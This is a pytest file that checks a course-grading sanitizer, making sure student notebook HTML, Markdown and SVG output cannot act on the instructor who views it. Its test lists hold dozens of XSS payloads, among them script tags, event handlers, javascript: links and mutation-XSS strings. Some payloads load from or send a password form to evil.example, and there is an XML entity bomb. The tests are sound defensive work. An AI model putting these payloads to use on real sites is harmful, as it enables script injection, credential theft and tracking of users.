"""Nothing of a student's run acts on who looks at it, and what was meant to be seen is still there."""

import base64
import re
import time

import pytest
from bs4 import BeautifulSoup

import minigrad as torch
from grading import sanitizing
from minigrad import draw

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/pixel.png 1x'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/png;base64,AAAA\" onerror=alert(1)'>",
    "<b onclick=alert(1) style='background:url(https://evil.example)'>x</b>",
    "<style>@import url(https://evil.example)</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<form action=https://evil.example><input name=password><button formaction=//evil.example>ok</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=data:text/html,x>x</a>",
    "<a href=https://evil.example>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<video><source onerror=alert(1)></video><audio src=https://evil.example></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div id=top name=top class='panel panel-primary'>x</div>",
    "</div></div></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<template><script>alert(1)</script></template><plaintext><script>",
    "<p style='position:fixed;top:0;left:0;width:9999px;height:9999px'>x</p>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](https://evil.example)",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example>",
    "https://evil.example",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "$<img src=x onerror=alert(1)>$",
    "![x](attachment:missing.png)",
    "[x]: javascript:alert(1)\n\n[x]",
]
NAMES = {"src": r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,[A-Za-z0-9+/=]+", "alt": r".*"}
NAMES |= dict.fromkeys(["width", "height", "colspan", "rowspan", "start"], r"\d{1,4}")
NAMES |= {"class": r"highlight|[a-z]{1,2}\d?"}


def assert_harmless(page):
    """Assert that all elements and attributes are among the few that are known to do nothing."""
    for element in BeautifulSoup(page, "html.parser").find_all(True):
        assert element.name in sanitizing.TAGS | {"a"}, page
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            assert re.fullmatch(NAMES.get(name, r"(?!)"), value), f"{name}={value} in {page}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_of_a_run_does_nothing(attack):
    assert_harmless(sanitizing.clean_html(f"<p>before</p>{attack}<p>after</p>"))
    assert_harmless(sanitizing.clean_markdown(f"before\n\n{attack}\n\nafter"))


@pytest.mark.parametrize("attack", MARKDOWN)
def test_markdown_of_a_run_does_nothing(attack):
    assert_harmless(sanitizing.clean_markdown(attack))


def test_what_came_before_an_attack_stays():
    assert "<p>before</p>" in sanitizing.clean_html("<p>before</p><script>alert(1)</script>")
    assert sanitizing.clean_html("<script>var x = 1</script><style>p {}</style>") == ""  # no code as text either


def test_links_stay_only_where_the_instructor_wrote():
    text = "[x](https://pytorch.org) [y](javascript:alert(1))"
    assert sanitizing.clean_markdown(text).count("href") == 0
    kept = BeautifulSoup(sanitizing.clean_markdown(text, links=True), "html.parser").find_all("a", href=True)
    assert [link["href"] for link in kept] == ["https://pytorch.org"]


def picture():
    x = torch.ones(3, requires_grad=True)
    return draw.make_dot((x * 2).sum())._repr_mimebundle_()


@pytest.mark.parametrize("form", ["image/svg+xml", "text/html"])
def test_pictures_stay(form):
    made = picture()[form]
    page = sanitizing.as_image(made) if form == "image/svg+xml" else sanitizing.clean_html(made)
    assert_harmless(page)
    image = BeautifulSoup(page, "html.parser").find("img")
    assert image["alt"] == "graph of 5 boxes and 4 arrows"
    drawing = base64.b64decode(image["src"].split(",")[1]).decode()
    words = [BeautifulSoup(text, "html.parser").get_text().split() for text in (drawing, picture()["image/svg+xml"])]
    assert words[0] == words[1]
    assert 'viewBox="' in drawing


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml' onclick='alert(1)'>x</p></foreignObject>",
        "<image href='https://evil.example/x.png'/>",
        "<a href='javascript:alert(1)'><text>x</text></a>",
        "<use href='https://evil.example/x.svg#a'/>",
        "<style>@import url(https://evil.example)</style>",
        "<circle r='3' onclick='alert(1)' style='fill:url(https://evil.example)' fill='url(https://evil.example)'/>",
        "<set attributeName='href' to='javascript:alert(1)'/><animate attributeName='x' onbegin='alert(1)'/>",
        "<circle fill='u\\72l(https://evil.example)'/>",
    ],
)
def test_svg_of_a_run_does_nothing(inside):
    clean = sanitizing.clean_svg(f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/>{inside}</svg>')
    assert "<rect" in clean
    assert not re.search(r"alert|evil|href|style|script|foreign", clean)


def test_svg_that_is_none_or_a_bomb_is_left_out():
    bomb = '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>'
    assert [sanitizing.clean_svg(text) for text in ("", "<p>x</p>", "<svg", "<svg/>", bomb)] == [None] * 5
    deep = f'<svg xmlns="http://www.w3.org/2000/svg">{"<g>" * 5000}{"</g>" * 5000}</svg>'
    assert sanitizing.clean_svg(deep).count("<g") <= sanitizing.DEEPEST


@pytest.mark.parametrize(
    "piece", ["<div>", "<b><i><p>", '<a href="', "<ul><li>", "<svg ", "<!--", "[", ">", "*a ", "- "]
)
def test_no_input_takes_long(piece):
    text = piece * (20_000 // len(piece))
    begin = time.process_time()
    assert sanitizing.clean_markdown(text)
    sanitizing.clean_html(piece * sanitizing.MOST_TAGS)
    assert time.process_time() - begin < 10
